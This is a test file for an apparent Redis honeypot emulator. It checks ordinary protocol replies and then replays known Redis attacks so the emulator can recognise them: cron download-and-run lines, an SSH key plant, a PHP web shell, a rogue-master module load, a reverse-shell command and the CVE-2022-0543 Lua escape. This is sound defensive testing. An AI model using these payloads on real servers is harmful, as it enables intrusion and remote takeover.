"""Redis: what its client sees, and what the worms of the day do to it, each in the order in which they do it."""

from __future__ import annotations

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
from eudaemon.payload.extract import extract
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols.redis import Redis
from eudaemon.protocols.redis.attacks import LUA_COMMANDS_MAX, lua_commands, target_of
from eudaemon.protocols.redis.commands import MODULES_MAX, VALUE_BYTES_MAX
from eudaemon.protocols.redis.keys import KEYS_MAX
from eudaemon.protocols.redis.resp import (
    ARGUMENTS_MAX,
    BULK_BYTES_MAX,
    LINE_BYTES_MAX,
    REPLY_BYTES_MAX,
    UNREAD_BYTES_MAX,
    split,
)
from eudaemon.protocols.redis.room import REQUESTS_MAX
from eudaemon.protocols.redis.server import server_of
from eudaemon.testing.script import Table, play, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from payload.servers import SIZES, content

FIVE = Host.from_seed(Seed(b"0"))


def talk(host: Host = FIVE, bytes_max: int = 32 << 20) -> Table:
    return Table(Redis(visit(host=host, port=6379, purse=Purse(bytes_max)))).open()


def request(*words: bytes) -> bytes:
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words)


def exploits(table: Table) -> list[tuple[str, str, str]]:
    return [(f.name, f.reference, f.command) for f in table.facts if isinstance(f, ExploitRecognised)]


PLAIN = r"""
> PING\r\n
< +PONG\r\n
> *2\r\n$4\r\nECHO\r\n$5\r\na\r\nb \r\n
< $5\r\na\r\nb \r\n
> \r\n\r\nset  x  "a \\x41"\r\n
< +OK\r\n
> get x\r\nget y\r\nmget x y\r\n
< $3\r\na A\r\n$-1\r\n*2\r\n$3\r\na A\r\n$-1\r\n
> keys *\r\nkeys y*\r\ntype x\r\nttl x\r\nttl y\r\ndbsize\r\nexists x x y\r\n
< *1\r\n$1\r\nx\r\n*0\r\n+string\r\n:-1\r\n:-2\r\n:1\r\n:2\r\n
> scan 0 match x*\r\nincr n\r\nincr n\r\ndecr n\r\nappend x bc\r\nstrlen x\r\nincr x\r\n
< *2\r\n$1\r\n0\r\n*1\r\n$1\r\nx\r\n:1\r\n:2\r\n:1\r\n:5\r\n:5\r\n-ERR value is not an integer or out of range\r\n
> select 1\r\nget x\r\nselect 16\r\nselect x\r\nselect 0\r\ndel x n y\r\nflushall\r\n
< +OK\r\n$-1\r\n-ERR DB index is out of range\r\n-ERR invalid DB index\r\n+OK\r\n:2\r\n+OK\r\n
> set a 1 nx\r\nset a 2 nx\r\nset b 1 xx\r\nset a 1 ex 10\r\nset a 1 zz\r\nsetnx a 1\r\nsetex a 9 1\r\nmset a 1 b\r\n
< +OK\r\n$-1\r\n$-1\r\n+OK\r\n-ERR syntax error\r\n:0\r\n+OK\r\n-ERR wrong number of arguments for MSET\r\n
> nonsense a b\r\nget\r\nget a b\r\nset a\r\n
< -ERR unknown command `nonsense`, with args beginning with: `a`, `b`, \r\n
< -ERR wrong number of arguments for 'get' command\r\n-ERR wrong number of arguments for 'get' command\r\n
< -ERR wrong number of arguments for 'set' command\r\n
> auth s3cret\r\n
< -ERR Client sent AUTH, but no password is set\r\n
! login.tried user='' password='s3cret' accepted=False
> client setname me\r\nclient getname\r\nrole\r\nconfig resetstat\r\nquit\r\n
< +OK\r\n$2\r\nme\r\n*3\r\n$6\r\nmaster\r\n:0\r\n*0\r\n+OK\r\n+OK\r\n
/ over
"""


@pytest.mark.parametrize("split", [0, 1])
def test_what_a_client_sees(split: int) -> None:
    table = play(Redis, PLAIN, split=split, given=visit(host=FIVE))
    assert CommandEntered('set x "a A"') in table.facts


def test_what_honeydet_takes_for_opencanary_is_not_said() -> None:
    assert talk().say(b"[[,[[\r\n").startswith(b"-ERR unknown command `[[,[[`, ")


def test_what_it_says_of_itself_agrees() -> None:
    table = talk()
    said = table.say(b"info\r\n").decode()
    version = server_of(FIVE).version
    assert f"\r\nredis_version:{version}\r\n" in said
    kernel = server_of(FIVE).host.kernel
    assert f"\r\nos:Linux {kernel} x86_64\r\n" in said
    assert "role:master" in said
    assert said == talk().say(b"INFO\r\n").decode()
    assert table.say(b"info keyspace\r\n") == b"$12\r\n# Keyspace\r\n\r\n"
    table.say(b"set a 1\r\n")
    assert b"db0:keys=1," in table.say(b"info keyspace\r\n")
    assert table.say(b"config get dbfilename\r\n") == b"*2\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n"
    assert b"$11\r\nrequirepass\r\n$0\r\n\r\n" in table.say(b"config get *\r\n")
    assert table.say(b"command count\r\n")[:1] == b":"


def test_no_two_installations_are_alike() -> None:
    servers = [server_of(Host.from_seed(Seed(b"%d" % n))) for n in range(24)]
    assert len({server.run_id for server in servers}) == len({server.host.name for server in servers}) == 24
    assert len({server.version for server in servers}) > 5


CRON = b"\n\n*/1 * * * * curl -fsSL http://198.51.100.7/i.sh | sh\n\n"
KEY = b"\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 root@kali\n\n\n"


@pytest.mark.parametrize(
    ("directory", "name", "value", "exploit", "origin"),
    [
        (b"/var/spool/cron/crontabs", b"root", CRON, "redis-cron", "script"),
        (b"/var/spool/cron", b"root", CRON, "redis-cron", "script"),
        (b"/etc/cron.d", b"zzh", CRON, "redis-cron", "script"),
        (b"/root/.ssh/", b"authorized_keys", KEY, "redis-ssh-key", "upload"),
        (b"/var/www/html", b"x.php", b"<?php system($_GET[0]);?>", "redis-web-shell", "script"),
        (b"/etc", b"ld.so.preload", b"\n/tmp/x.so\n", "redis-startup-file", "script"),
        (b"/tmp", b"x.so", b"\x7fELF", "redis-module", "upload"),
    ],
)
def test_a_dump_that_is_none(directory: bytes, name: bytes, value: bytes, exploit: str, origin: str) -> None:
    table = talk()
    table.say(request(b"FLUSHALL") + request(b"SET", b"x", value))
    assert table.say(request(b"CONFIG", b"SET", b"dir", directory)) == b"+OK\r\n"
    assert table.say(request(b"CONFIG", b"SET", b"dbfilename", name) + request(b"SAVE")) == b"+OK\r\n+OK\r\n"
    path = (directory.rstrip(b"/") + b"/" + name).decode()
    assert [(keep.origin, keep.name) for keep in table.kept] == [(origin, path)]
    assert table.kept[0].data.startswith(b"REDIS0009\xfa")
    assert value in table.kept[0].data
    assert [(row[0], row[2]) for row in exploits(table)] == [
        (exploit, value.strip().decode("latin-1").replace("\x7f", "\\x7f"))
    ]
    if value is CRON:
        found = extract(table.kept[0].data, FIVE, "198.51.100.7").downloads
        assert [download.url for download in found] == ["http://198.51.100.7/i.sh"]
    table.end()
    assert len(table.kept) == 1, "once"


def test_what_would_be_saved_by_and_by_is_kept_at_the_end() -> None:
    table = talk()
    table.say(b"config set dir /etc/cron.d\r\n" + request(b"set", b"x", CRON))
    table.end()
    assert [keep.name for keep in table.kept] == ["/etc/cron.d/dump.rdb"]
    table = talk()
    table.say(request(b"set", b"x", CRON))
    table.end()
    assert not table.kept, "a database that stays where it is is no attack"


def test_what_cannot_be_set() -> None:
    table = talk()
    assert table.say(b"config set dir /nowhere\r\n") == b"-ERR Changing directory: No such file or directory\r\n"
    assert table.say(b"config set dir /etc/hosts\r\n") == b"-ERR Changing directory: Not a directory\r\n"
    assert table.say(b"config set dbfilename a/b\r\n").startswith(b"-ERR Invalid argument 'a/b'")
    assert table.say(b"config set nosuch 1\r\n") == b"-ERR Unsupported CONFIG parameter: nosuch\r\n"
    assert table.say(b"config nonsense\r\n").startswith(b"-ERR Unknown subcommand")
    assert table.say(b"config get dir\r\n").endswith(b"/data\r\n")


@pytest.mark.parametrize("size", SIZES)
def test_a_value_of_any_size_arrives_byte_for_byte(size: int) -> None:
    table = talk()
    data = request(b"SET", b"x", content(size))
    for at in range(0, len(data), 65_537):
        table.say(data[at : at + 65_537])
    assert table.sent == b"+OK\r\n"
    assert table.say(b"get x\r\n") == b"$%d\r\n%s\r\n" % (size, content(size))
    table.say(b"config set dir /tmp\r\nconfig set dbfilename x.so\r\nsave\r\n")
    assert content(size) in table.kept[0].data


def test_the_rogue_master() -> None:
    """exploits/linux/remote/47195.rb and redis-rogue-server: replicate, load what came, command, leave."""
    table = talk()
    assert table.say(b"MODULE LOAD ./exp.so\r\n").startswith(b"-ERR Error loading the extension")
    assert table.say(b"system.exec id\r\n").startswith(b"-ERR unknown command `system.exec`")
    assert table.say(b"SLAVEOF 198.51.100.7 21000\r\n") == b"+OK\r\n"
    assert table.say(b"SLAVEOF 198.51.100.7 21000\r\n") == b"+OK Already connected to specified master\r\n"
    assert table.say(b"CONFIG SET dbfilename exp.so\r\n") == b"+OK\r\n"
    assert [wish.download.url for wish in table.wishes] == ["redis://198.51.100.7:21000/"]
    assert b"master_host:198.51.100.7\r\nmaster_port:21000\r\n" in table.say(b"info replication\r\n")
    table.answer("ok", b"\x7fELF module")
    assert table.say(b"MODULE LOAD ./exp.so\r\n") == b"+OK\r\n"
    assert b"$6\r\nsystem\r\n" in table.say(b"MODULE LIST\r\n")
    assert table.say(b"SLAVEOF NO ONE\r\n") == b"+OK\r\n"
    assert table.say(request(b"system.exec", b"id -u; head -c4 /data/exp.so; echo")) == b"$7\r\n0\n\x7fELF\n\r\n"
    assert table.say(b"system.rev 198.51.100.7 9999\r\n") == b"+OK\r\n"
    assert table.say(b"MODULE UNLOAD system\r\nMODULE UNLOAD system\r\n").startswith(b"+OK\r\n-ERR Error unloading")
    names = [row[0] for row in exploits(table)]
    assert names == [
        "redis-module",
        "redis-rogue-master",
        "redis-module",
        "redis-module-command",
        "redis-reverse-shell",
    ]
    assert not table.wishes


def test_a_command_that_downloads_holds_up_what_follows() -> None:
    table = talk()
    table.say(b"SLAVEOF 198.51.100.7 1\r\nMODULE LOAD /x.so\r\n")
    assert table.say(request(b"system.exec", b"wget -qO- http://198.51.100.7/a; echo done") + b"PING\r\n") == b""
    table.answer("failed")
    assert table.sent.endswith(b"+OK\r\n"), "what the master sends is no reply"
    table.tell(HalfClosed(table.at_s))
    assert not table.over
    table.answer("ok", b"hello\n")
    assert table.sent.endswith(b"$11\r\nhello\ndone\n\r\n+PONG\r\n")
    assert table.over


LUA = (
    b'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); '
    b'local f = io.popen("id -u; wget http://198.51.100.7/k", "r"); local res = f:read("*a"); f:close(); return res'
)


def test_lua_out_of_its_box() -> None:
    table = talk()
    table.say(request(b"EVAL", LUA, b"0"))
    table.answer("failed")
    assert table.sent.startswith(b"$")
    assert b"\r\n0\n" in table.sent
    assert exploits(table) == [("redis-lua-sandbox", "CVE-2022-0543", "id -u; wget http://198.51.100.7/k")]
    assert ("script", "eval.lua", LUA) in [(keep.origin, keep.name, keep.data) for keep in table.kept]
    assert table.say(b"eval 'return 1' 0\r\n") == b":1\r\n"
    assert table.say(b"eval x y\r\n").startswith(b"-ERR value is not an integer")
    assert table.say(b"eval x 2 a\r\n").startswith(b"-ERR Number of keys")


def test_commands_in_lua_by_every_way_of_writing_them() -> None:
    script = (
        b'os.execute(\'a\') io.popen("b\\"") io.popen([[c\nd]]) io.popen(ARGV[1]) os.execute(KEYS[1]) popen(ARGV[9])'
    )
    assert list(lua_commands(script, [b"k"], [b"v"])) == [b"a", b'b"', b"c\nd", b"v", b"k"]
    assert len(list(lua_commands(b"popen('a')" * 99, [], []))) == LUA_COMMANDS_MAX


def test_what_a_place_is_for() -> None:
    assert target_of(b"/data/dump.rdb") is None
    assert target_of(b"/var/spool/cron/root") is not None


def test_words_of_a_line() -> None:
    assert split(b'  a "b\\n\\x41" \'c\\\'d\' "" ') == [b"a", b"b\nA", b"c'd", b""]


@pytest.mark.parametrize(
    ("said", "reply"),
    [
        (b"*x\r\n", b"invalid multibulk length"),
        (b"*1\r\n:1\r\n", b"expected '$', got ':'"),
        (b"*1\r\n$-5\r\n", b"invalid bulk length"),
        (b"*1\r\n$x\r\n", b"invalid bulk length"),
        (b'set "a\r\n', b"unbalanced quotes in request"),
        (b'set "a"b\r\n', b"unbalanced quotes in request"),
        (b"a" * (LINE_BYTES_MAX + 1), b"too big inline request"),
        (b"*" + b"1" * (LINE_BYTES_MAX + 1), b"too big mbulk count"),
        (b"*1\r\n$" + b"1" * (LINE_BYTES_MAX + 1), b"too big bulk count string"),
        (b"*%d\r\n" % (ARGUMENTS_MAX + 1), b"invalid multibulk length"),
        (b"a " * (ARGUMENTS_MAX + 1) + b"\r\n", b"invalid multibulk length"),
        (b"*1\r\n$%d\r\n" % (BULK_BYTES_MAX + 1), b"invalid bulk length"),
    ],
)
def test_what_is_no_request_ends_it(said: bytes, reply: bytes) -> None:
    table = talk()
    assert table.say(said) == b"-ERR Protocol error: " + reply + b"\r\n"
    assert table.over
    assert table.fault == reply.decode()


def test_what_just_fits() -> None:
    for said in (b"*%d\r\n" % ARGUMENTS_MAX, b"*1\r\n$%d\r\n" % BULK_BYTES_MAX, b"*0\r\n*-1\r\n"):
        assert talk().say(said) == b""
    table = talk()
    table.say(b"ping ".ljust(LINE_BYTES_MAX - 1) + b"\r\n" + b"echo " + b" ".join([b"a"] * (ARGUMENTS_MAX - 1)) + b"\n")
    assert table.sent == b"+PONG\r\n-ERR wrong number of arguments for 'echo' command\r\n"


def test_a_browser_is_hung_up_on() -> None:
    for line in (b"POST / HTTP/1.1\r\n", b"Host: x\r\n"):
        table = talk()
        assert table.say(line) == b""
        assert table.over
    assert talk().say(b"GET / HTTP/1.0\r\n\r\n") == b"-ERR wrong number of arguments for 'get' command\r\n"


def test_one_value_cannot_be_asked_for_without_end() -> None:
    times = REPLY_BYTES_MAX // 1_000_016
    table = talk(bytes_max=64 << 20)
    table.say(request(b"SET", b"k", b"x" * 1_000_000))
    assert len(table.say(request(b"MGET", *[b"k"] * times))) > times * 1_000_000
    table.say(request(b"MGET", *[b"k"] * (times + 1)))
    assert table.fault == f"asks for over {REPLY_BYTES_MAX} bytes at once"


def test_limits() -> None:
    table = talk()
    for number in range(KEYS_MAX):
        assert table.say(b"set k%d 1\r\n" % number) == b"+OK\r\n"
    assert table.say(b"set one-more 1\r\n").startswith(b"-OOM")
    assert table.say(b"set k1 2\r\nflushdb\r\ndbsize\r\n").startswith(b"+OK\r\n+OK\r\n:0")
    for number in range(REQUESTS_MAX - KEYS_MAX - 4):
        assert not table.fault, number
        table.say(b"ping\r\n")
    assert not table.fault
    table.say(b"ping\r\n")
    assert table.fault
    table = talk(bytes_max=64 << 20)
    table.say(request(b"set", b"a", bytes(VALUE_BYTES_MAX - 1)))
    assert table.say(b"append a x\r\n") == b":%d\r\n" % VALUE_BYTES_MAX
    assert table.say(b"append a x\r\n").startswith(b"-ERR string exceeds")
    table = talk(bytes_max=2000)
    assert table.say(request(b"set", b"a", bytes(1000))) == b"+OK\r\n"
    assert table.say(request(b"set", b"b", bytes(760))).startswith(b"-OOM")
    for past in (0, 1):
        table = talk()
        table.say(b"slaveof 198.51.100.7 1\r\nmodule load x\r\nsystem.exec 'wget http://a/b'\r\n")
        table.say(b"x" * (UNREAD_BYTES_MAX + past))
        assert bool(table.fault) == bool(past)
    table = talk()
    for number in range(MODULES_MAX + 1):
        table.say(b"slaveof h %d\r\nmodule load x\r\n" % number)
    assert len(table.room.modules) == 1  # type: ignore[attr-defined]


def test_whose_conversation_it_is() -> None:
    for first, claim in (
        (b"*", Claim.UNSURE), (b"*1\r\n", Claim.UNSURE), (b"*1\r\n$4", Claim.YES), (b"*1\r\nx", Claim.NO),
        (b"IN", Claim.UNSURE), (b"INFO\r\n", Claim.YES), (b"config get *\r\n", Claim.YES),
        (b"echo -e x > /tmp/y\n", Claim.UNSURE),
        (b"GET / HTTP/1.0\r\n", Claim.NO),
        (b"root\r\n", Claim.NO), (b"\x16\x03", Claim.NO),
    ):  # fmt: skip
        assert Redis.claim(first) is claim, first


def test_a_login_is_stated() -> None:
    table = talk()
    table.say(b"auth admin123\r\n")
    assert LoginTried("", "admin123", accepted=False) in table.facts
